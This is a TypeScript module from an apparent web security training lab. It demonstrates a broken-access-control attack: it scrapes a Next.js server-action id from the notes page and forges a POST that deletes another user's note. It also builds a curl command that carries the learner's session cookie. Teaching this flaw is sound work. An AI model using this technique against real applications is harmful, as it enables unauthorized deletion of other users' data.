import * as z from "zod/mini";
import { changesBetween } from "@/lib/lab/attack/changes";
import { curlOf } from "@/lib/lab/attack/curl";
import type { AttackReport } from "@/lib/lab/attack/report";
import { LabProblem } from "@/lib/lab/client/problem";
import { send } from "@/lib/lab/client/request";
import { type labAnswerSchema, labStateSchema, labTokensSchema } from "@/lib/lab/schemas";

const sessionSchema = z.object({ user: z.optional(z.object({ name: z.optional(z.nullable(z.string())) })) });
const notSignedIn = "You are not signed in. Sign in in the lab, as Linus, and send it again.";

/**
 * Deletes somebody else's note with the learner's own session, by `fetch`: any script on a page of this site could.
 *
 * @throws LabProblem when the learner is not signed in, or nobody else has a note left
 */
export async function attackFromHere(lab: z.infer<typeof labAnswerSchema>): Promise<AttackReport> {
  const state = () => send(fetch, { method: "GET", path: "/mock-backend/lab/state" }, labStateSchema);
  const session = await send(fetch, { method: "GET", path: "/api/auth/session" }, sessionSchema);
  const before = await state();
  const me = before.users.find(({ name }) => name === session.user?.name);
  if (me === undefined) throw new LabProblem("refused", notSignedIn);
  const target = before.notes.find(({ ownerId }) => ownerId !== me.id);
  if (target === undefined) throw new LabProblem("refused", "Nobody else has a note left. Reset the lab.");

  const page = await (await fetch("/notes", { cache: "no-store" })).text();
  const id = /&quot;id&quot;:&quot;([0-9a-f]{42})&quot;/.exec(page)?.[1];
  if (id === undefined) {
    throw new LabProblem("refused", "Your page shows no form to read the id from. Add a note first.");
  }
  const headers: [string, string][] = [
    ["Next-Action", id],
    ["Content-Type", "text/plain;charset=UTF-8"],
    ["Accept", "text/x-component"],
  ];
  const body = JSON.stringify([target.id]);
  const { session: cookie } = await send(fetch, { method: "GET", path: "/api/lab/tokens" }, labTokensSchema);
  const answer = await fetch("/notes", { method: "POST", headers, body, redirect: "manual" });
  const text = await answer.text();
  const after = await state();
  const prefix = `${location.protocol === "https:" ? "__Host-" : ""}silent-refresh`;
  const variants = new URLSearchParams(lab.variants).toString();
  const cookies = [
    `${prefix}.lab=${lab.id}`,
    `${prefix}.variants=${encodeURIComponent(variants)}`,
    `${prefix}.session-token=${cookie?.raw ?? ""}`,
  ].join("; ");
  return {
    variant: lab.variants["server-action-protection"] ?? "guarded",
    arranged: [`You are ${me.name}. The id was read from your own page.`],
    curl: curlOf({ url: new URL("/notes", location.href).href, headers, cookies, body }),
    answer: { status: answer.status, headers: [...answer.headers], body: text, cutBytes: 0 },
    ...changesBetween(before, after),
  };
}
